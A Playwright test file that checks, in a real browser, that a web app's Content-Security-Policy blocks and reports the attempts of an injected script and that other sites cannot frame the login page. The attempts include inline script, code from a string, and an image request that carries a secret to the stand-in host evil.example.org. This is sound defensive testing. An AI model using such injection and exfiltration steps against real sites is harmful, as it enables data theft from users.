/** The Content-Security-Policy in a real browser, and that a test run notices when a page breaks it. */
import type { Page } from '@playwright/test';
import { expect, newDevice, test } from './support/fixtures.ts';
import { takePolicyReports } from './support/policy.ts';

/** Attempts of an injected script, each with a check for success. */
const attempts: Record<string, (page: Page) => Promise<boolean>> = {
  'markup from a string': (page) =>
    works(page, () => {
      document.body.insertAdjacentHTML('beforeend', '<b id="injected">x</b>');
      return document.getElementById('injected') !== null;
    }),
  'an inline script': (page) =>
    works(page, () => {
      const script = document.createElement('script');
      script.append('window.injected = true');
      document.body.append(script);
      return 'injected' in window;
    }),
  'an inline style': (page) =>
    works(page, () => {
      document.body.setAttribute('style', 'opacity: 0.5');
      return getComputedStyle(document.body).opacity === '0.5';
    }),
  // Delayed, since code evaluated by the test itself is allowed.
  'code from a string': (page) =>
    works(page, () => {
      const run = (resolve: (works: boolean) => void) => {
        try {
          resolve(new Function('return true')());
        } catch {
          resolve(false);
        }
      };
      return new Promise((resolve) => setTimeout(run, 0, resolve));
    }),
  'a picture from elsewhere, with a secret in its address': (page) =>
    works(page, async () => {
      const image = new Image();
      image.src = 'https://evil.example.org/?secret';
      return image.decode().then(() => true);
    }),
  'a frame from elsewhere': (page) =>
    works(page, async () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example.org/';
      const refused = new Promise((resolve) =>
        document.addEventListener('securitypolicyviolation', resolve, { once: true }),
      );
      document.body.append(frame);
      await refused;
      return false;
    }),
  'a request to elsewhere': (page) =>
    works(page, () => fetch('https://evil.example.org/').then(() => true)),
};

test('the policy stops what an injected script would try, and every report of it reaches the test', async ({
  browser,
  server,
}) => {
  const { page } = await newDevice(browser, server);
  for (const [what, attempt] of Object.entries(attempts)) {
    await page.goto('/account/login');
    expect(takePolicyReports(), `before ${what}`).toEqual([]);
    expect(await attempt(page), what).toBe(false);
    await expect.poll(() => takePolicyReports(), what).not.toEqual([]);
    // One attempt may be reported twice.
    await page.goto('about:blank');
    takePolicyReports();
  }
});

test('no page of another site can frame the app', async ({ browser, server }) => {
  const { page } = await newDevice(browser, server);
  const name = server.url.replace('127.0.0.1', 'localhost');
  await page.route(`${name}/frame`, (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<iframe id="app" src="${server.url}/account/login"></iframe>`,
    }),
  );
  await page.goto(`${name}/frame`);
  await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
  expect(await page.frames()[1]?.content()).not.toContain('Haversack');
});

/** An error is a refusal. */
function works(page: Page, attempt: () => boolean | Promise<boolean>): Promise<boolean> {
  return page.evaluate(attempt).catch(() => false);
}
